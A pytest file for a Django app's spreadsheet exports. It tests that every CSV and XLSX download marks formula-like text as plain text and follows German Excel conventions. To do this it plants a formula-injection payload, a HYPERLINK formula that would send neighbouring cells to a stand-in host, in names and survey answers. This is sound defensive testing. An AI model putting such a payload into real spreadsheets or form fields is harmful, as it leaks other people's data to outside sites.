"""Every CSV and XLSX the product writes goes through one writer (register.spreadsheets): no cell is a
formula, text that starts like one is marked as text, and the CSV is what Excel in Germany opens."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.contrib.auth.models import Group, User
from django.urls import reverse
from django.utils import timezone

from meetings.models import Event, Registration
from register import spreadsheets
from register.models import Membership, Network, Organisation, Person
from register.permissions import OFFICE_GROUP
from register.spreadsheets import FORMULA_START, neutralise, restore

# A registrant's name that would read other cells of the sheet out to another site (issue 15, finding 2).
LEAK = '=HYPERLINK("http://example.org/?leak="&C2&C3,"x")'
STARTS = ["+49 6151 1234", "-Beratung", "@Verein", "\tTabulator", "\rWagenrücklauf"]


def test_neutralise_marks_every_formula_start_and_restore_takes_the_mark_off():
    for text in [LEAK, *STARTS]:
        assert neutralise(text) == "'" + text and restore(neutralise(text)) == text
    assert neutralise("Caritas") == "Caritas" and neutralise(-5) == -5 and neutralise(None) is None
    assert restore("'Apostroph") == "'Apostroph"  # a mark is taken off only where neutralise put one


def test_csv_is_for_excel_in_germany():
    content = spreadsheets.csv_bytes(["Name", "Seit", "Anteil"], [["Ä;Ö", datetime.date(2010, 5, 1), 12.5]])
    assert content.startswith(b"\xef\xbb\xbf") and b"\r\n" in content
    assert content.decode("utf-8-sig").splitlines()[1] == '"Ä;Ö";01.05.2010;12,5'


def test_a_workbook_keeps_every_value_as_it_is_with_bold_headings_a_filter_and_widths():
    """Written row by row (openpyxl's write-only mode), a workbook still holds text as text (an error code
    too, which openpyxl would store as an error), dates in German formats, and its headings bold."""
    stamp = datetime.datetime(2026, 3, 1, 8, 30, tzinfo=datetime.UTC)
    headers = ["Text", "Formel", "Fehler", "Tag", "Zeit", "Zahl", "Ja", "Leer"]
    rows = [["x" * 80, "=1+1", "#N/A", datetime.date(2026, 3, 1), stamp, 3, True, ""], ["kurz", *[None] * 7]]
    book = openpyxl.load_workbook(io.BytesIO(spreadsheets.xlsx_bytes([spreadsheets.Sheet("Liste", headers, rows)])))
    sheet = book["Liste"]
    assert [cell.value for cell in sheet[1]] == headers and all(cell.font.b for cell in sheet[1])
    text, formula, error, day, time, number, yes, empty = sheet[2]
    assert (formula.value, formula.data_type, formula.quotePrefix) == ("=1+1", "s", True)
    assert (error.value, error.data_type, error.quotePrefix) == ("#N/A", "s", False)
    assert (day.value.date(), day.number_format) == (datetime.date(2026, 3, 1), "DD.MM.YYYY")
    assert (time.value, time.number_format) == (datetime.datetime(2026, 3, 1, 8, 30), "DD.MM.YYYY HH:MM")
    assert (number.value, yes.value, empty.value) == (3, True, None)
    assert [cell.value for cell in sheet[3]] == ["kurz", *[None] * 7]
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("A2", "A1:H3")
    widths = {letter: dimension.width for letter, dimension in sheet.column_dimensions.items()}
    assert widths["A"] == spreadsheets.MAX_COLUMN_WIDTH and widths["B"] == len("Formel") + 2


def cells(response, fmt):
    """Every cell of a CSV or XLSX answer: [(value, is a formula, has Excel's text mark)]."""
    assert response.status_code == 200, response.status_code
    if fmt == "csv":
        assert response["Content-Type"] == spreadsheets.CSV_CONTENT_TYPE
        assert response.content.startswith(b"\xef\xbb\xbf"), "a CSV for Excel starts with a BOM"
        text = response.content.decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
        assert len(rows[0]) > 1, "separated by semicolons"
        return [(value, False, value.startswith("'")) for row in rows for value in row]
    assert response["Content-Type"] == spreadsheets.XLSX_CONTENT_TYPE
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    return [
        (cell.value, cell.data_type == "f", bool(cell.quotePrefix))
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def assert_neutralised(response, fmt, expected=(LEAK,)):
    found = cells(response, fmt)
    assert not any(formula for _value, formula, _mark in found), "a cell is a formula"
    for value, _formula, mark in found:
        if not isinstance(value, str):
            continue
        if fmt == "csv":
            assert not value.startswith(FORMULA_START), f"unmarked formula start: {value!r}"
        elif value.startswith(FORMULA_START):
            assert mark, f"formula start without text mark: {value!r}"
    # A workbook keeps a carriage return too (lxml writes it as a character reference).
    texts = {restore(value) if fmt == "csv" else value for value, _f, _m in found if isinstance(value, str)}
    for text in expected:
        assert text in texts, f"{text!r} is not in the file"


@pytest.fixture
def office(db):
    user = User.objects.create_user("office", password="a long test password")
    user.groups.add(Group.objects.get_or_create(name=OFFICE_GROUP)[0])
    return user


@pytest.fixture
def planted(db):
    """A register with a formula in an organisation's name and in a public person's names."""
    network = Network.objects.create(name="Arbeitskreis Formel", slug="ak-formel")
    evil = Organisation.objects.create(name=LEAK, slug="evil", description=STARTS[1])
    Membership.objects.create(network=network, organisation=evil)
    person = Person.objects.create(
        given_name=STARTS[2], family_name="Muster", consent_to_publish=True, consent_recorded_at=timezone.now()
    )
    Membership.objects.create(network=network, person=person)
    return network


@pytest.mark.parametrize("kind", ["networks", "organisations", "actor_groups", "people", "memberships"])
def test_the_staff_export_as_csv(client, office, planted, kind):
    client.force_login(office)
    expected = (LEAK,) if kind in ("organisations", "memberships") else ()
    assert_neutralised(client.get(reverse("importing:export_csv", args=[kind])), "csv", expected)


def test_the_staff_export_as_xlsx_and_the_templates(client, office, planted):
    client.force_login(office)
    assert_neutralised(client.get(reverse("importing:export_xlsx")), "xlsx")
    for fmt in ("csv", "xlsx"):
        template = client.get(reverse("importing:tabular_template", args=["memberships", fmt]))
        assert_neutralised(template, fmt, expected=())


@pytest.mark.parametrize("dataset", ["netzwerke", "organisationen", "mitgliedschaften"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_open_data_downloads(client, planted, dataset, fmt):
    expected = () if dataset == "netzwerke" else (LEAK,)
    assert_neutralised(client.get(reverse("api:open_data", args=[dataset, fmt])), fmt, expected)


def test_the_map_as_csv(client, planted):
    assert_neutralised(client.get(reverse("analysis:map_csv")), "csv")


def test_the_participants_of_an_event(client, office, planted):
    start = timezone.now() + datetime.timedelta(days=10)
    event = Event.objects.create(
        title="Forum", slug="forum", network=planted, start=start, end=start + datetime.timedelta(hours=2)
    )
    for number, name in enumerate([LEAK, *STARTS]):
        Registration.objects.create(
            event=event,
            name=name,
            email=f"p{number}@example.org",
            organisation=STARTS[0],
            status=Registration.Status.CONFIRMED,
            confirmed_at=timezone.now(),
            needs_details=STARTS[1],
            consent_at=timezone.now(),
        )
    client.force_login(office)
    response = client.get(reverse("meetings:participants_xlsx", args=[event.slug]))
    assert_neutralised(response, "xlsx", expected=(LEAK, *STARTS))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_results_of_a_survey(client, office, planted, fmt):
    from tests.needs.needs_builders import make_survey
    from tests.needs.test_needs_results import respond

    survey = make_survey([planted], kinds=("single", "number", "text"))
    for _ in range(5):
        respond(survey, planted, "welfare", text=LEAK)
    client.force_login(office)
    assert_neutralised(client.get(reverse("needs:export", args=[survey.pk, fmt])), fmt)
